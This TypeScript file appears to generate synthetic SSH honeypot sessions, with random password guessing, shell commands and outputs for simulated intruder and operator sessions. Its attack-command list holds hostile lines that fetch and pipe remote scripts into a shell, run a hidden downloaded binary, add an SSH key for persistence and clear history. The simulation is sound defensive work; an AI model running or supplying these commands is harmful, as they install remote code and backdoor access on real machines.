import type { Dice } from './dice.js';
import type { Service, SessionKind, Step } from './session.js';
import { PASSWORDS, USERS } from './words.js';

const ATTACK_COMMANDS = [
  'uname -a',
  'cat /proc/cpuinfo | grep name | wc -l',
  'cd /tmp && wget http://198.51.100.7/x.sh && sh x.sh',
  'wget -q http://203.0.113.9/bot -O /tmp/.b; chmod 777 /tmp/.b; /tmp/.b &',
  'curl -s http://192.0.2.44/m | bash',
  "echo 'ssh-rsa AAAAB3NzaC1yc2E' >> ~/.ssh/authorized_keys",
  'free -m | grep Mem',
  'crontab -l; history -c',
  '/bin/busybox MIRAI',
];
const BENIGN_COMMANDS = [
  'uptime',
  'df -h',
  'ls -la',
  'systemctl status nginx',
  'tail -n 20 /var/log/syslog',
  'exit',
];

const OUTPUTS = [
  'Linux web-1 6.8.0-31-generic x86_64',
  'Permission denied',
  'sh: 1: not found',
  '/dev/sda1  40G  11G  27G  29% /',
  ' 10:02:11 up 41 days, load average: 0.08',
  'total 12\ndrwxr-xr-x 2 root root 4096 .\n-rw-r--r-- 1 root root 220 .profile',
];

function login(kind: SessionKind, dice: Dice): Step[] {
  const username = dice.pick(USERS);
  const failures = kind === 'attack' ? dice.between(1, 4) : dice.chance(25) ? 1 : 0;
  const steps: Step[] = [];
  for (let i = 0; i < failures; i++) {
    steps.push({ event: 'login_attempt', data: { username, password: dice.pick(PASSWORDS) } });
    steps.push({ event: 'login_failed', data: { username } });
  }
  if (kind === 'attack' && dice.chance(60)) return steps;
  steps.push({ event: 'login_attempt', data: { username, password: dice.pick(PASSWORDS) } });
  steps.push({ event: 'login_success', data: { username, method: 'password' } });
  return [...steps, ...shell(kind, dice)];
}

function shell(kind: SessionKind, dice: Dice): Step[] {
  const commands = kind === 'attack' ? ATTACK_COMMANDS : BENIGN_COMMANDS;
  return Array.from({ length: dice.between(1, 4) }, () => dice.pick(commands)).flatMap((command) => {
    const steps: Step[] = [{ event: 'command', data: { command } }];
    if (dice.chance(70))
      steps.push({
        event: 'command_output',
        data: { command, exit_code: dice.between(0, 1), output: dice.pick(OUTPUTS) },
      });
    if (command.includes('wget'))
      steps.push({
        event: 'file_download',
        data: {
          url: `http://198.51.100.${dice.between(2, 250)}/${dice.hex(6)}`,
          sha256: dice.hex(64),
          size: null,
        },
      });
    return steps;
  });
}

/** An SSH honeypot: password guessing and shells of intruders, log-ins and shells of an operator. */
export const SSH: Service = {
  honeypotType: 'ssh',
  ports: ['2222', '22'],
  userAgents: [''],
  script: (kind, dice) => {
    const client_port = dice.between(32_768, 60_999);
    const duration = dice.between(0, 89) + 0.5;
    const ended = { client_port, duration };
    return [
      { event: 'connect', data: { client_port } },
      ...login(kind, dice),
      dice.chance(50) ? { event: 'disconnect' } : { event: 'disconnect', data: ended },
    ];
  },
};
